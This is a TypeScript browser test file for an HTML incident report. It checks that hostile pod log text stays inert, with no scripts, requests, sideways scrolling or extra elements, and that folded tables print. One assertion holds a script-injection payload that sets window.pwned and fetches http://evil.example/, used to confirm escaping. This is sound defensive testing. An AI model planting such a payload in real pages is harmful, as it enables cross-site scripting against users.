import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { incidentOf } from '../../../src/report/incident/incident.ts';
import { incidentHtml } from '../../../src/report/incident/incident-html.tsx';
import { openChromium, show } from '../../support/chromium.ts';
import { ENDED_AT, hostileLines, hostileSource, STARTED_AT, timelineOf } from '../../support/hostile-recording.ts';
import { HOSTILE_TEXTS, harmless } from '../../support/hostile-texts.ts';
import { HOSTILE_SOURCE, hostileTimeline, NOW } from '../../support/hostile-timeline.ts';
import { RECORDED, recordedTimeline } from '../../support/recorded.ts';

let folder = '';
let browser: Browser | string = 'not opened';
const files = { zoo: '', hostile: '' };

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'crashtop-html-'));
  const zoo = await recordedTimeline('zoo');
  const hostile = hostileTimeline();
  const write = (name: string, html: string) => {
    const file = join(folder, `${name}.html`);
    writeFileSync(file, html);
    return file;
  };
  files.zoo = write('zoo', incidentHtml(incidentOf(zoo, RECORDED, zoo.startedAt, zoo.endedAt), 'crashtop test'));
  files.hostile = write('hostile', incidentHtml(incidentOf(hostile, HOSTILE_SOURCE, hostile.startedAt, NOW), 'crashtop test'));
  browser = await openChromium();
  if (typeof browser === 'string') console.warn(`HTML report: not tested in a browser: ${browser}`);
});
afterAll(async () => {
  if (typeof browser !== 'string') await browser.close();
  rmSync(folder, { recursive: true });
});

describe('the HTML report in a browser', () => {
  it.for([
    ['zoo', 390, 'light'],
    ['zoo', 1280, 'dark'],
    ['hostile', 390, 'dark'],
    ['hostile', 1280, 'light'],
  ] as const)('%s, %i pixels wide, %s: no complaint, no request, no scrolling to the side', async ([file, width, scheme], {
    skip,
  }) => {
    if (typeof browser === 'string') return skip(browser);
    const { page, complaints, requests } = await show(browser, files[file], width, scheme);
    const seen = await page.evaluate(`({
      scrolls: document.documentElement.scrollWidth - window.innerWidth,
      scripts: document.querySelectorAll('script, img, iframe, object, [onerror], [onload]').length,
      pwned: window.pwned ?? null,
      background: getComputedStyle(document.body).backgroundColor,
      links: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href')).filter((href) => !href.startsWith('#')),
    })`);
    await page.close();
    expect([complaints, requests]).toEqual([[], []]);
    expect(seen).toEqual({
      ...{ scrolls: 0, scripts: 0, pwned: null, links: [] },
      background: scheme === 'dark' ? 'rgb(22, 24, 29)' : 'rgb(255, 255, 255)',
    });
  });

  it('shows every problem with its runs, and the text of pods as they wrote it', async ({ skip }) => {
    if (typeof browser === 'string') return skip(browser);
    const { page } = await show(browser, files.hostile, 1280, 'light');
    const seen = (await page.evaluate(`({
      log: document.querySelector('pre.log').textContent,
      lanes: document.querySelectorAll('svg.lane rect.crash').length,
      runs: document.querySelectorAll('details[open] tbody tr').length,
      target: document.querySelector('table a').getAttribute('href'),
      problem: document.querySelector('#problem-1 h2').textContent,
    })`)) as { log: string; lanes: number };
    await page.close();
    expect(seen.log).toContain('<script>window.pwned = 1; fetch("http://evil.example/")</script>');
    expect(seen).toMatchObject({ runs: 4, target: '#problem-1', problem: 'shop/api-1 [api]' });
    expect(seen.lanes).toBeGreaterThan(0);
  });

  it('has no element or attribute more or less, whatever a stranger wrote', async ({ skip }) => {
    if (typeof browser === 'string') return skip(browser);
    const page = await browser.newPage();
    const reportOf = (text: string) => {
      const { timeline } = timelineOf(hostileLines(text));
      return incidentHtml(incidentOf(timeline, hostileSource(text), STARTED_AT, ENDED_AT), 'crashtop test');
    };
    // As a browser reads a file: each element with its attributes, in order, and how many there are.
    const elementsOf = (html: string) =>
      page.evaluate(`{
        const counts = {};
        for (const element of new DOMParser().parseFromString(${JSON.stringify(html)}, 'text/html').querySelectorAll('*')) {
          const name = [element.tagName, ...element.getAttributeNames()].join(' ');
          counts[name] = (counts[name] ?? 0) + 1;
        }
        counts;
      }`) as Promise<Record<string, number>>;
    for (const text of HOSTILE_TEXTS) {
      const seen = await elementsOf(reportOf(text));
      expect(Object.keys(seen).length).toBeGreaterThan(20);
      expect({ text, ...seen }).toEqual({ text, ...(await elementsOf(reportOf(harmless(text)))) });
    }
    await page.close();
  });

  it('prints what is folded on the screen', async ({ skip }) => {
    if (typeof browser === 'string') return skip(browser);
    const { page } = await show(browser, files.hostile, 1280, 'dark');
    const visible = () =>
      page.evaluate(`[...document.querySelectorAll('details:not([open]) table')].map((table) => table.checkVisibility())`);
    const folded = await visible();
    await page.emulateMediaType('print');
    const printed = await visible();
    await page.close();
    expect([folded, printed]).toEqual([[false], [true]]);
  });
});
